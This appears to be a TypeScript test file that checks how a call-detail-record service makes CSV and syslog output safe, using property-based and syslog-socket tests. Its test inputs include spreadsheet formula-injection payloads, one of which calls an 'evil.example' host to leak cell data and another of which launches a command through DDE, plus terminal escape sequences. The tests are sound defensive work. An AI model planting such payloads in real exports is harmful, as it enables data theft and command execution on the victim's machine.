// CDR lines beside the database: CSV with the operator's fields, made harmless, to syslog (through
// logger, received here on a datagram socket of the test's own). The file: cdr-file.test.ts.
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import t from 'tap';
import { CDR_FIELDS, cdrCsv, csvField } from '../../../service/cc/cdr.js';
import type { Cdr } from '../../../service/cc/types.js';
import { CdrSyslog } from '../../../service/store/cdr-log.js';
import { waitUntil } from '../../support/wait.js';

const cdr = (o: Partial<Cdr> = {}): Cdr => ({
  callId: 'c1@host', account: 'joe@example.com', from: '"Joe, Jr." <sip:joe@example.com>', to: 'sip:200@example.com', sourceIp: '192.0.2.10',
  startMs: Date.UTC(2026, 10, 25, 12, 0, 0), connectMs: Date.UTC(2026, 10, 25, 12, 0, 2), endMs: Date.UTC(2026, 10, 25, 12, 1, 2),
  setupSeconds: 2, durationSeconds: 60, durationMs: 60_000, billableSeconds: 60, connectFee: 5, amount: 65, ratePrefix: '31', cause: 'caller', code: undefined, ...o,
});
const quiet = { error: () => undefined, warn: () => undefined, info: () => undefined };
const until = <T>(what: string, probe: () => T | undefined | false): Promise<T> => waitUntil(what, probe, { timeoutMs: 20_000, everyMs: 20 });

t.test('CSV: the chosen fields in order, times ISO 8601, fields with commas or quotes quoted', async (t) => {
  t.equal(cdrCsv(cdr(), ['call_id', 'from', 'start', 'duration', 'amount', 'cause', 'code']),
    'c1@host,"""Joe, Jr."" <sip:joe@example.com>",2026-11-25T12:00:00.000Z,60,65,caller,');
  t.equal(csvField('a\r\nb'), 'a\\x0D\\x0Ab', 'a line break never splits a CDR line');
  t.equal(cdrCsv(cdr({ durationSeconds: 1, durationMs: 35, billableSeconds: 30 }), ['duration', 'duration_ms', 'billable_seconds']), '1,35,30', 'the exact duration beside the billed seconds');
  t.equal(cdrCsv(cdr({ durationMs: undefined }), ['duration_ms']), '', 'unknown for a CDR stored before it was kept');
  t.equal(CDR_FIELDS.at(-1), 'duration_ms', 'added at the end of the default line: the older columns stay where they were');
});

/** A CSV line's cells as a spreadsheet reads them (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (line[i] === '"') {
      for (i++; i < line.length; i++) {
        if (line[i] === '"' && line[i + 1] === '"') { cell += '"'; i++; } else if (line[i] === '"') { i++; break; } else cell += line[i];
      }
    } else {
      while (i < line.length && line[i] !== ',') cell += line[i++];
    }
    out.push(cell);
    if (line[i] !== ',') return out;
    i++;
  }
}
/** The escaping undone: the value the database holds. */
const unescape = (v: string): string => v.replace(/^'(?=[=+\-@]|\\x09|\\x0D)/, '')
  .replace(/\\(\\|x[0-9A-F]{2})/g, (_, e: string) => (e === '\\' ? '\\' : String.fromCharCode(Number.parseInt(e.slice(1), 16))));

t.test('a caller-chosen value never runs as a formula, and control characters are escaped', async (t) => {
  const line = cdrCsv(cdr({ callId: '=HYPERLINK("http://evil.example/?x="&A1,"click")', from: '=1+1 <sip:joe@example.com>', to: "@SUM(1+1)*cmd|' /C calc'!A0", ratePrefix: '-2+3' }),
    ['call_id', 'from', 'to', 'rate_prefix', 'amount']);
  t.equal(line, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'=1+1 <sip:joe@example.com>","'@SUM(1+1)*cmd|' /C calc'!A0","'-2+3",65`);
  t.same(cells(line).map((c) => c[0]), ["'", "'", "'", "'", '6'], 'every cell a spreadsheet reads starts with a quote, not =, @ or -');
  t.equal(csvField('\tcmd'), `"'\\x09cmd"`, 'a leading tab: neutralized, and escaped');
  t.equal(csvField('\r=1'), `"'\\x0D=1"`, 'a leading CR');
  t.equal(csvField('+31 20 555'), `"'+31 20 555"`, 'a leading +');
  t.equal(csvField('evil\x1b[31mred\x07\u009b2J'), 'evil\\x1B[31mred\\x07\\x9B2J', 'ESC, BEL and CSI are escaped: a terminal or a log viewer runs nothing');
  t.equal(csvField('a\\x1B'), 'a\\\\x1B', 'a backslash is escaped too, so an escape is never ambiguous');
  t.equal(csvField('"Joe" <sip:joe@example.com>'), '"""Joe"" <sip:joe@example.com>"', 'ordinary values stay as they were');

  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: 'grapheme-ascii', maxLength: 10 }), (a, b) => {
    for (const v of [a, b, `${b}${a}`, `=${a}`, `-${b}`, `\t${a}`]) {
      const l = cdrCsv(cdr({ callId: v, from: v }), ['call_id', 'from']);
      if (/[\u0000-\u001f\u007f-\u009f]/.test(l)) return false;
      const [c1, c2] = cells(l);
      if (c1 !== c2 || /^[=+\-@\t\r]/.test(c1!) || unescape(c1!) !== v) return false;
    }
    return true;
  }), { seed: 23, numRuns: 500 });
});

t.test('CDRs go to syslog with their tag', async (t) => {
  const dir = mkdtempSync(path.join(tmpdir(), 'cdr-syslog-'));
  const sock = path.join(dir, 'log');
  const got = path.join(dir, 'got');
  // A syslog socket of our own: a datagram server that writes what it receives to a file.
  const server = spawn('python3', ['-c', `
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind(sys.argv[1])
f = open(sys.argv[2], 'ab', buffering=0)
while True: f.write(s.recv(65536) + b'\\n')`, sock, got]);
  t.teardown(() => server.kill());
  await until('the test\'s syslog socket', () => existsSync(sock));
  const out = new CdrSyslog({ syslogSocket: sock, syslogTag: 'sca-cc-cdr', fields: ['call_id', 'amount'], log: quiet });
  out.write([cdr(), cdr({ callId: '=1+1\x1b]0;pwned\x07', amount: 7 })]);
  const text = await until('both lines at the syslog socket', () => (existsSync(got) && readFileSync(got, 'utf8').includes(',7') ? readFileSync(got, 'utf8') : undefined));
  out.close();
  t.match(text, /<134>.*sca-cc-cdr.*: c1@host,65/, 'local0.info, tagged');
  t.match(text, /sca-cc-cdr.*: "'=1\+1\\x1B\]0;pwned\\x07",7/, 'neutralized and escaped in syslog too');
  t.notMatch(text, /[\x07\x1b]/, 'no control character reaches syslog');
});
